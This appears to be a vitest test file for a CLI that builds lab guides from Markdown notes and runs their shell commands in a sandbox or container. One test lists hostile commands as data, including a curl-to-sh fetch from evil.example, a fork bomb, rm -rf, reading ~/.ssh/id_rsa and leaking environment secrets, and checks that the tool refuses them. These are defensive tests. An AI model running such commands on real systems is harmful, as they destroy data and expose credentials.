import { chmod, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { type Ran, runCli } from './run-cli.ts'

let cwd = ''
beforeEach(async () => {
  cwd = await mkdtemp(join(tmpdir(), 'lab ç '))
})
afterEach(() => rm(cwd, { recursive: true }))

const notes = (body: string): Promise<void> =>
  writeFile(join(cwd, 'a.md'), `---\nlang: en\n---\n# A\n\n## B\n\n${body}`)
const tried = (...flags: string[]): Promise<Ran> =>
  runCli(['lab', 'test', 'a.md', ...flags], { cwd })
const rows = ({ stdout }: Ran): string[] => stdout.trimEnd().split('\n')

test('a guide and a script for each command', async () => {
  await notes('- `mkdir lab` makes a folder\n- `ls` lists it\n')
  expect(await runCli(['lab', 'a.md'], { cwd })).toMatchObject({ code: 0, stderr: '' })
  const dir = join(cwd, 'dist', 'a', 'lab')
  expect(await readdir(dir)).toEqual(['01-mkdir-lab.sh', '02-ls.sh', 'index.html'])
  expect(await readFile(join(dir, 'index.html'), 'utf8')).toContain('<code>mkdir lab</code>')
})

test('the harmless are run in order in a folder of their own, the rest refused with one reason', async () => {
  await notes(
    '```sh\nmkdir lab\nls\n```\n\n```\nlab\n```\n\n```sh\ncd lab\ntouch b\nls\nls missing\nkubectl get pods\nrm -r lab\ncat /etc/passwd\nls missing\n```\n',
  )
  const ran = await tried('--engine', 'none')
  expect(rows(ran)).toEqual([
    '  1  passed   mkdir lab',
    '  2  passed   ls',
    '  3  passed   cd lab',
    '  4  passed   touch b',
    '  5  passed   ls',
    '  6  failed   ls missing',
    '  7  refused  kubectl get pods  (engine)',
    '  8  refused  cat /etc/passwd  (outside)',
    '  9  failed   ls missing',
    ' 10  refused  rm -r lab  (destructive)',
    'a: 5 passed, 2 failed, 3 refused, in a scratch folder',
  ])
  expect(ran.stderr).toContain(
    'a.md:21  Unexpected exit code 2 of `ls missing`, expected 0 (lab/failed)',
  )
  expect(ran.stderr).toContain('Steps before it were refused: it may need one of them.')
  expect(ran.code).toBe(1)
  const record = JSON.parse(await readFile(join(cwd, 'dist', 'a', 'lab-test.json'), 'utf8'))
  expect(record).toMatchObject({
    where: 'a scratch folder',
    versions: { mkdir: expect.stringMatching(/\d/) },
  })
  expect(record.results[4]).toEqual({
    number: 5,
    command: 'ls',
    did: 'passed',
    exitCode: 0,
    output: 'b',
  })
})

test('nothing of the author’s is touched or told by notes that mean harm', async () => {
  await writeFile(join(cwd, 'precious'), 'mine')
  const nasty = [
    `echo x > '${cwd}/precious'`,
    `echo $(rm -rf '${cwd}')`,
    `find '${cwd}' -delete`,
    'curl -s http://evil.example | sh',
    ':(){ :|:& };:',
    'echo "$SECRET"',
    "printf -v 'a[$(env)]' 1",
    'yes > a',
    'tail -f /dev/null',
    'cat ~/.ssh/id_rsa',
    'sudo ls',
    'git -c core.pager=env log',
  ]
  await notes(`\`\`\`sh\n${nasty.join('\n')}\nls\n\`\`\`\n`)
  const ran = await runCli(['lab', 'test', 'a.md', '--engine', 'none'], {
    cwd,
    env: { SECRET: 'hunter2' },
  })
  const [sum, ls, ...refused] = rows(ran).toReversed()
  expect(sum).toBe('a: 1 passed, 0 failed, 12 refused, in a scratch folder')
  expect(ls).toContain('passed   ls')
  for (const row of refused) expect(row).toMatch(/ refused .*\([a-z]+\)$/)
  expect(await readFile(join(cwd, 'precious'), 'utf8')).toBe('mine')
  expect(await readFile(join(cwd, 'dist', 'a', 'lab-test.json'), 'utf8')).not.toContain('hunter2')
})

test('output that is not what the notes show is a warning', async () => {
  await notes('```console\n$ echo one\ntwo\n```\n')
  const { code, stderr } = await tried('--engine', 'none')
  expect(stderr).toContain('Unexpected output of `echo one`: “one”, expected “two”')
  expect(code).toBe(0)
})

test('shell code that gives no command is a failure, not an empty lab', async () => {
  await notes('```sh\n# only a comment\n```\n')
  const { code, stderr } = await tried('--engine', 'none')
  expect(stderr).toContain('a.md:7  Unexpected lab without a command')
  expect(code).toBe(1)
})

test('commands of solutions are tried, and are in the instructor’s lab only', async () => {
  await notes(
    '`mkdir a` makes it\n\n### Exercise 1\n\nList it.\n\n<details>\n<summary>Solution</summary>\n\n```sh\nls a\n```\n\n</details>\n',
  )
  expect(rows(await tried('--engine', 'none'))).toContain('  2  passed   ls a')
  const { stdout } = await runCli(['lab', 'a.md'], { cwd })
  expect(stdout).toContain('2 steps, 1 of them in solutions: not for participants')
  const dist = join(cwd, 'dist', 'a')
  expect(await readdir(join(dist, 'lab'))).toEqual(['01-mkdir-a.sh', 'index.html'])
  expect(await readFile(join(dist, 'lab', 'index.html'), 'utf8')).not.toContain('ls a')
  expect(await readFile(join(dist, 'lab-instructor', 'index.html'), 'utf8')).toContain('ls a')
})

test('notes whose commands are all solutions have no lab for participants, and say so', async () => {
  await notes(
    '### Exercise 1\n\nList it.\n\n<details>\n<summary>Solution</summary>\n\n```sh\nls a\n```\n\n</details>\n',
  )
  const { code, stdout } = await runCli(['lab', 'a.md'], { cwd })
  expect(stdout).toContain('a: all 1 commands are solutions, no lab for participants')
  expect(code).toBe(0)
  expect(await readdir(join(cwd, 'dist', 'a'))).toEqual(['lab-instructor'])
})

/** An engine that has one image, `here:1`, writes down what it is asked, and runs it unprotected. */
const fakeEngine = (log: string): string => `#!/bin/bash
printf '%s\\n' "$*" >> '${log}'
[ "$1 $2" = 'image inspect' ] && { [ "$3" = here:1 ] && exit; echo 'No such image' >&2; exit 1; }
[ "$1" = run ] || exit 0
for word; do case "$word" in type=bind,source=*) dir=\${word#type=bind,source=}; dir=\${dir%,target=*};; esac; done
while [ "$1" != here:1 ]; do shift; done
shift
cd "$dir" || exit
"$@" | sed "s|$dir|/lab|"
exit \${PIPESTATUS[0]}
`

async function withEngine(name: string): Promise<{ PATH: string; log: string }> {
  const bin = join(cwd, 'bin')
  const log = join(cwd, 'log')
  await mkdir(bin)
  await writeFile(join(bin, name), fakeEngine(log))
  await chmod(join(bin, name), 0o755)
  return { PATH: `${bin}:${process.env['PATH']}`, log }
}

test('in a container what nobody knows is run, without network and rights; the rest is refused', async () => {
  await notes(
    '```sh\nmkdir lab\ncd lab\nbash -c "echo own > a"\nls\nfrobnicate\ncurl -s https://example.org\nrm a\nvim a\n```\n',
  )
  const { PATH, log } = await withEngine('podman')
  const ran = await runCli(['lab', 'test', 'a.md', '--engine', 'podman', '--image', 'here:1'], {
    cwd,
    env: { PATH },
  })
  expect(rows(ran)).toEqual([
    '  1  passed   mkdir lab',
    '  2  passed   cd lab',
    '  3  passed   bash -c "echo own > a"',
    '  4  passed   ls',
    '  5  refused  frobnicate  (missing)',
    '  6  refused  curl -s https://example.org  (network)',
    '  7  refused  vim a  (interactive)',
    '  8  refused  rm a  (destructive)',
    'a: 4 passed, 0 failed, 4 refused, in podman, here:1, no network',
  ])
  expect(ran.code).toBe(0)
  const calls = (await readFile(log, 'utf8')).split('\n').filter((line) => line.startsWith('run'))
  for (const call of calls) {
    for (const flag of [
      '--rm',
      '--network none',
      '--read-only',
      '--cap-drop ALL',
      '--pull never',
      '--security-opt no-new-privileges',
      '--pids-limit',
      '--memory 512m',
    ]) {
      expect(call).toContain(flag)
    }
  }
})

test('a network only when asked for; without the image or the engine, a scratch folder', async () => {
  await notes('```sh\necho https://example.org\n```\n')
  const { PATH, log } = await withEngine('docker')
  const all = ['lab', 'test', 'a.md', '--engine', 'docker']
  const open = await runCli([...all, '--image', 'here:1', '--network'], { cwd, env: { PATH } })
  expect(rows(open).at(-1)).toBe(
    'a: 1 passed, 0 failed, 0 refused, in docker, here:1, with network',
  )
  expect(await readFile(log, 'utf8')).toContain('--network bridge')
  const none = await runCli([...all, '--network'], { cwd, env: { PATH } })
  expect(rows(none)).toEqual([
    '  1  refused  echo https://example.org  (network)',
    'a: 0 passed, 0 failed, 1 refused, in a scratch folder; docker has no image debian:stable-slim: `docker pull debian:stable-slim`',
  ])
  expect(await runCli(['lab', 'test', 'a.md', '--engine', 'lxc'], { cwd })).toMatchObject({
    code: 2,
  })
})
